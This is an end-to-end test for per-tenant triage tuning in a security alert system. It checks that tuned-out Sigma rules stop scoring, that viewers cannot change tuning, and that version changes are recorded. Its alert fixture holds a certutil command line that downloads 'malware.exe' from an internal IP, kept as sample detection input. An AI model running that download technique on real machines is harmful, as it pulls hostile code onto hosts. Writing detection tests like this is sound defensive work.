import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, SENDER_TOKEN, VIEWER_TOKEN, client, decidedCase, startSystem } from './support.ts';

/**
 * Issue 12, point 3, through the running system: an admin's tuning for the alert's tenant reaches triage, which
 * scores without the tuned-out Sigma rule, says so in a 0-point factor and names the version; the change is audited.
 */
describe('per-tenant triage tuning, end to end', () => {
  let system: Awaited<ReturnType<typeof startSystem>>;
  let sender: ReturnType<typeof client>;
  let viewer: ReturnType<typeof client>;
  let admin: ReturnType<typeof client>;

  beforeAll(async () => {
    system = await startSystem({ TRIAGE_TUNING_REFRESH_SECONDS: '1' });
    sender = client(system.url, SENDER_TOKEN);
    viewer = client(system.url, VIEWER_TOKEN);
    admin = client(system.url, ADMIN_TOKEN);
  });
  afterAll(async () => {
    await system?.close();
  });

  const alert = (id: string) => ({
    id,
    title: 'Certutil download',
    severity: 'medium',
    description: 'certutil fetched a file',
    entities: [
      { type: 'host', value: 'ws-7.contoso.com' },
      { type: 'process', value: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil.exe -urlcache -f http://10.0.1.14/malware.exe malware.exe' },
    ],
  });
  type Factor = { name: string; points: number; evidence: string };

  it('the tuned Sigma rule no longer scores, the tuned-out factor names the entry, the engine version names the tuning version', async () => {
    const first = await sender('/api/v1/alerts/generic', { body: alert('tt-before') });
    expect(first.status).toBe(202);
    const before = await decidedCase(viewer, first.body.alertId as string);
    const tenant = before.alert.tenantId as string;
    const sigma = (before.triage.risk.factors as Factor[]).filter((f) => f.name.startsWith('sigma-') && f.name !== 'sigma-critical');
    expect(sigma.length).toBeGreaterThan(0);
    const ruleIds = sigma.map((f) => /\(([0-9a-f-]{36}), level/.exec(f.evidence)?.[1]).filter((id): id is string => id !== undefined);
    expect(ruleIds.length).toBe(sigma.length);

    const entries = ruleIds.map((sigmaRuleId, i) => ({ id: `sigma-off-${i}`, kind: 'sigma-rule', sigmaRuleId, reason: 'certutil downloads are the patch tool here' }));
    expect((await viewer(`/api/v1/tenants/${tenant}/triage-tuning`, { method: 'PUT', body: { version: 0, entries } })).status).toBe(403);
    const put = await admin(`/api/v1/tenants/${tenant}/triage-tuning`, { method: 'PUT', body: { version: 0, entries } });
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({ version: 1, changedBy: 'root' });
    await new Promise((r) => setTimeout(r, 1100)); // triage re-reads a tenant's tuning every TRIAGE_TUNING_REFRESH_SECONDS

    const second = await sender('/api/v1/alerts/generic', { body: alert('tt-after') });
    const after = await decidedCase(viewer, second.body.alertId as string);
    const factors = after.triage.risk.factors as Factor[];
    expect(factors.filter((f) => f.name.startsWith('sigma-'))).toEqual([]);
    expect(after.triage.risk.score).toBeLessThan(before.triage.risk.score);
    const tuned = factors.find((f) => f.name === 'tuned-out');
    expect(tuned?.points).toBe(0);
    expect(tuned?.evidence).toContain('sigma-off-0');
    expect(after.triage.engine.version).toMatch(/\+tuning\.1$/);
  }, 30_000);
});
